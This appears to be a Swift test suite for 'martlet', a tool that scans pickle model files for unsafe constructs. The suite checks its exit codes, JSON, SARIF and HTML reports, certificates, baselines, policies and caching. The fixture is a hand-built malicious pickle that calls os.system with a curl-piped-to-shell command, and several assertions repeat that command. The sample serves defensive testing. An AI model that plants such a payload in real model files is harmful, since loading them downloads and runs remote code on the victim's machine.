// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 the Martlet authors

import Foundation
import Testing

/// `martlet scan`, `explain`, `rules` and `disassemble` as their users run them.
@Suite struct ScanTests {
  private static let harmful = "cos\nsystem\n(S'curl http://example.org | sh'\ntR."
  private static let unvetted = "cmy_package.models\nNet\n)R."

  @Test func whatIsSafeEndsWith0AndWhatIsNotWith1() async throws {
    let place = try Workplace()
    try place.write("weights of a small model\n", to: "note.txt")
    try place.write(Self.harmful, to: "bad model.pkl")
    let safe = try await place.martlet("scan", "note.txt", Example.digits)
    #expect(safe.status == 0, "\(safe.output)\(safe.errors)")
    #expect(safe.output.contains("2 safe"))
    let unsafe = try await place.martlet("scan", ".")
    #expect(unsafe.status == 1)
    #expect(unsafe.output.contains("unsafe      bad model.pkl"))
    #expect(unsafe.output.contains("os.system('curl http://example.org | sh')"))
    #expect(unsafe.output.contains("MRT-PKL-001"))
    #expect(unsafe.complaints == [])
  }

  @Test func theJSONHasTheKeysOfTheFormat() async throws {
    let place = try Workplace()
    try place.write(Self.harmful, to: "a.pkl")
    let report = try await place.martlet("scan", "a.pkl", "--format", "json").json()
    #expect(report["verdict"] as? String == "unsafe")
    let artifact = try #require((report["artifacts"] as? [[String: Any]])?.first)
    #expect(artifact["path"] as? String == "a.pkl")
    #expect(artifact["format"] as? String == "pickle")
    #expect((artifact["sha256"] as? String)?.count == 64)
    let finding = try #require((artifact["findings"] as? [[String: Any]])?.first)
    #expect(finding["rule"] as? String == "MRT-PKL-001")
    #expect(finding["severity"] as? String == "critical")
    #expect(finding["construct"] as? String == "os.system('curl http://example.org | sh')")
  }

  @Test func anAllowedConstructIsSafeAndItsCertificateHolds() async throws {
    let place = try Workplace()
    try place.write(Self.unvetted, to: "net.pkl")
    let refused = try await place.martlet("scan", "net.pkl")
    #expect(refused.status == 1)
    #expect(refused.output.contains("--allow 'my_package.models.Net'"), "\(refused.output)")
    let allowed = try await place.martlet(
      "scan", "net.pkl", "--allow", "my_package.models.Net", "--certificate", "net.json")
    #expect(allowed.status == 0, "\(allowed.output)\(allowed.errors)")
    #expect(try await place.martlet("scan", "net.pkl", "--check-certificate", "net.json").status == 0)
    try place.write(Self.unvetted.replacing("Net", with: "Bet"), to: "net.pkl")
    let changed = try await place.martlet("scan", "net.pkl", "--check-certificate", "net.json")
    #expect(changed.status == 1)
    #expect(changed.complaints.contains { $0.contains("the certificate is not about these bytes") })
  }

  @Test func onlyWhatIsSafeGetsACertificate() async throws {
    let place = try Workplace()
    try place.write(Self.harmful, to: "a.pkl")
    let run = try await place.martlet("scan", "a.pkl", "--certificate", "a.json")
    #expect(run.status == 1)
    #expect(!FileManager.default.fileExists(atPath: place("a.json")))
  }

  @Test func aBaselineAcceptsTheseBytesOnly() async throws {
    let place = try Workplace()
    try place.write(Self.harmful, to: "a.pkl")
    #expect(try await place.martlet("scan", "a.pkl", "--write-baseline", "base.json").status == 0)
    #expect(try await place.martlet("scan", "a.pkl", "--baseline", "base.json").status == 0)
    try place.write(Self.harmful.replacing("curl", with: "wget"), to: "a.pkl")
    #expect(try await place.martlet("scan", "a.pkl", "--baseline", "base.json").status == 1)
  }

  @Test func aPolicyIgnoresUntilItsDay() async throws {
    let place = try Workplace()
    try place.write(Self.harmful, to: "a.pkl")
    try place.write("ignore: [{path: a.pkl, until: 2999-01-01}]\n", to: "policy.yaml")
    #expect(try await place.martlet("scan", "a.pkl", "--policy", "policy.yaml").status == 0)
    try place.write("ignore: [{path: a.pkl, until: 2001-01-01}]\n", to: "policy.yaml")
    let ended = try await place.martlet("scan", "a.pkl", "--policy", "policy.yaml")
    #expect(ended.status == 1)
    #expect(ended.complaints.contains { $0.contains("was ignored until 2001-01-01") })
  }

  @Test func theCacheSaysTheSameAndIsNotTrustedByOthers() async throws {
    let place = try Workplace()
    // Larger than what is looked at again at once.
    try place.write(Self.harmful + String(repeating: "#", count: 2 << 20), to: "a.pkl")
    let environment = ["XDG_CACHE_HOME": place("cache")]
    let first = try await place.martlet(["scan", "a.pkl", "--format", "json"], environment: environment)
    let second = try await place.martlet(["scan", "a.pkl", "--format", "json"], environment: environment)
    #expect(first.status == 1)
    #expect(second.output == first.output)
    let kept = try FileManager.default.subpathsOfDirectory(atPath: place("cache")).count
    #expect(kept >= 4)
    // A cache that others can write to is not used.
    try FileManager.default.setAttributes(
      [.posixPermissions: 0o777], ofItemAtPath: place("cache/martlet/scan"))
    #expect(try await place.martlet(["scan", "a.pkl"], environment: environment).status == 1)
  }

  @Test func patternsAndLinksAreRead() async throws {
    let place = try Workplace()
    try place.write(Self.harmful, to: "a.pkl")
    try place.write("text\n", to: "b.txt")
    #expect(try await place.martlet("scan", "*.txt").status == 0)
    #expect(try await place.martlet("scan", "*.p?l").status == 1)
    let nothing = try await place.martlet("scan", "*.onnx")
    #expect(nothing.status == 2)
    #expect(nothing.complaints == ["martlet: nothing matches the pattern *.onnx"])
  }

  @Test func reportsForOtherToolsAreWritten() async throws {
    let place = try Workplace()
    try place.write(Self.harmful, to: "a.pkl")
    let sarif = try await place.martlet("scan", "a.pkl", "--format", "sarif").json()
    #expect(sarif["version"] as? String == "2.1.0")
    let page = try await place.martlet("scan", "a.pkl", "--format", "html")
    #expect(page.output.hasPrefix("<!doctype html>"))
    #expect(page.output.contains("os.system(&#39;curl http://example.org | sh&#39;)"))
  }

  @Test func aRuleIsExplainedAndAllAreListed() async throws {
    let place = try Workplace()
    let card = try await place.martlet("explain", "mrt-pkl-001")
    #expect(card.status == 0)
    #expect(card.output.contains("CWE-502"))
    let unknown = try await place.martlet("explain", "MRT-XXX-001")
    #expect(unknown.status == 2)
    #expect(unknown.complaints.first?.contains("`martlet rules` lists them") == true)
    #expect(try await place.martlet("rules").lines.count > 40)
    #expect(try await place.martlet("rules", "--packs").output.contains("sklearn"))
  }

  @Test func aPickleIsWrittenOutWithWhatItResolvesTo() async throws {
    let place = try Workplace()
    try place.write(Self.harmful, to: "a.pkl")
    let listing = try await place.martlet("disassemble", "a.pkl")
    #expect(listing.status == 0)
    #expect(listing.output.contains("GLOBAL"))
    #expect(listing.output.contains("; os.system"))
    #expect(listing.output.contains("STOP"))
  }
}
